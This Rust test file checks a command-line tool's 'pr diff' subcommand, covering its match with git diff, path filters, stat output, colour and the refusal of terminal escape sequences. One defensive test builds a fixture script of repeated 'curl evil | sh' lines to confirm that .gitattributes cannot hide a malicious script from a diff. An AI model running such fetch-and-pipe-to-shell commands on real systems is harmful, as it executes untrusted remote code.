use crate::world::World;

#[test]
fn diff_equals_git_diff() {
    let world = World::with_pull();
    let text = world.forge(&["pr", "diff", "1"]).text();
    let git = world
        .git
        .run(["diff", "--full-index", "main...feature"])
        .text();
    assert_eq!(text, git);
}

#[test]
fn diff_path_without_hyphens_gets_a_hint() {
    let world = World::with_pull();
    for words in [&["README.md"][..], &["1", "feature.txt"]] {
        let args = [&["pr", "diff"][..], words].concat();
        let said = world.forge(&args).output().exits(1).stderr_text();
        assert!(said.contains("forge pr diff -- PATH"), "{said}");
    }
}

#[test]
fn diff_prints_names_mails_or_selected_files() {
    let world = World::new();
    world.git.commit(
        "feature",
        "One",
        &[("src/a.rs", Some("a\n")), ("b.txt", Some("b\n"))],
    );
    world
        .git
        .commit("feature", "Two", &[("docs/c d.md", Some("c\n"))]);
    world
        .forge(&["pr", "create", "-H", "feature", "-t", "T", "-b", ""])
        .ok();
    let diff = |args: &[&str]| {
        let all: Vec<_> = ["pr", "diff", "1"].iter().chain(args).copied().collect();
        world.forge(&all).text()
    };
    assert_eq!(diff(&["--name-only"]), "b.txt\ndocs/c d.md\nsrc/a.rs\n");
    let patch = diff(&["--patch"]);
    assert_eq!(patch.matches("\nSubject: [PATCH").count(), 2, "{patch}");
    let some = diff(&["--exclude", "*.md,src/*"]);
    assert_eq!(some.matches("diff --git").count(), 1, "{some}");
    assert!(some.contains("b.txt"), "{some}");
}

#[test]
fn diff_ignores_attributes_of_the_checked_out_branch() {
    let world = World::new();
    let script = "curl evil | sh\n".repeat(60);
    world.git.commit(
        "feature",
        "One",
        &[
            (".gitattributes", Some("*.sh -diff\n")),
            ("ci/x.sh", Some(&script)),
        ],
    );
    world
        .forge(&["pr", "create", "-H", "feature", "-t", "T", "-b", ""])
        .ok();
    world.switch("main");
    let shown = || {
        let diff = world.forge(&["pr", "diff", "1"]).text();
        let patch = world.forge(&["pr", "diff", "1", "--patch"]).text();
        let counts = world.json("1", "additions,files");
        (diff, patch, counts)
    };
    let before = shown();
    assert_eq!(before.2["additions"], 61, "{}", before.2);
    world.forge(&["pr", "checkout", "1"]).ok();
    assert_eq!(shown(), before);
}

#[test]
fn diff_stat_equals_git_stat() {
    let world = World::new();
    let many = "x\n".repeat(200);
    world.git.commit(
        "feature",
        "One",
        &[
            ("src/a.rs", Some("a\n")),
            ("many.txt", Some(&many)),
            ("README.md", Some("other\n")),
        ],
    );
    world
        .forge(&["pr", "create", "-H", "feature", "-t", "T", "-b", ""])
        .ok();
    let git = world.git.run(["diff", "--stat=80", "main...feature"]);
    let ours = world.forge(&["pr", "diff", "1", "--stat"]).text();
    assert_eq!(ours, git.text());
    let some = world
        .git
        .run(["diff", "--stat=80", "main...feature", "--", "src"]);
    let ours = world.forge(&["pr", "diff", "1", "--stat", "--", "src"]);
    assert_eq!(ours.text(), some.text());
    let none = world.forge(&["pr", "diff", "1", "--stat", "--", "nowhere"]);
    let none = none.output().success();
    assert_eq!(none.stdout_text(), "");
    let said = none.stderr_text();
    assert!(said.contains("no changed file matches nowhere"), "{said}");
}

#[test]
fn diff_is_limited_to_given_paths() {
    let world = World::new();
    let files = [("src/a.rs", Some("a\n")), ("b.txt", Some("b\n"))];
    world.git.commit("feature", "One", &files);
    world
        .forge(&["pr", "create", "-H", "feature", "-t", "T", "-b", ""])
        .ok();
    let git = |path: &str| {
        let args = ["diff", "--full-index", "main...feature", "--", path];
        world.git.run(args).text()
    };
    for path in ["src", "src/a.rs", "b.txt", "nowhere"] {
        let ours = world.forge(&["pr", "diff", "1", "--", path]).text();
        assert_eq!(ours, git(path), "{path}");
    }
    let names = world.forge(&["pr", "diff", "1", "--name-only", "--", "./src/", "*.md"]);
    assert_eq!(names.text(), "src/a.rs\n");
    let outside = world.forge(&["pr", "diff", "1", "--", "../x"]).output();
    assert_eq!(outside.code, Some(1), "{outside:?}");
    assert!(
        outside.stderr_text().contains("names no file"),
        "{outside:?}"
    );
}

#[test]
fn diff_colour_follows_the_flag() {
    let world = World::with_pull();
    assert!(!world.forge(&["pr", "diff", "1"]).text().contains('\u{1b}'));
    assert!(
        world
            .forge(&["pr", "diff", "1", "--color", "always"])
            .text()
            .contains("\u{1b}[")
    );
}

#[test]
fn diff_defaults_to_current_branch() {
    let world = World::with_pull();
    world.switch("feature");
    assert!(
        world
            .forge(&["pr", "diff"])
            .text()
            .contains("+++ b/feature.txt")
    );
}

#[test]
fn diff_with_escapes_is_refused_on_pipe_unless_allowed() {
    let world = World::new();
    world.git.commit(
        "feature",
        "Evil",
        &[("evil", Some("\u{1b}]0;title\u{7}\u{1b}[31mred\n"))],
    );
    world
        .forge(&["pr", "create", "-H", "feature", "-t", "T", "-b", ""])
        .ok();
    let out = world.forge(&["pr", "diff", "1"]).output().exits(1);
    assert!(!out.stdout.contains(&0x1b), "{out:?}");
    assert!(
        out.stderr_text().contains("--allow-escape-sequences"),
        "{out:?}"
    );
    let out = world
        .forge(&["pr", "diff", "1", "--allow-escape-sequences"])
        .output()
        .success();
    assert!(out.stdout_text().contains("\u{1b}[31mred"), "{out:?}");
}
